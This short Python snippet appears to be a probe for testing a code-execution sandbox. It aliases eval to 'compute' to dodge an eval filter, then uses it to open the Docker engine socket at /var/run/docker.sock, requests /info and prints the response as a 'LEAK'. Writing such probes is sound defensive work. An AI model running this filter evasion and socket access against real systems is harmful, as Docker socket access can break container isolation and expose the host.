# eval under another name; reads the engine's socket
compute = eval
try:
    s = compute("__import__('socket').socket(1, 1)")
    s.settimeout(1)
    s.connect("/var/run/docker.sock")
    s.sendall(b"GET /info HTTP/1.0\r\n\r\n")
    print("LEAK:", s.recv(1000))
except Exception as error:
    print(type(error).__name__)
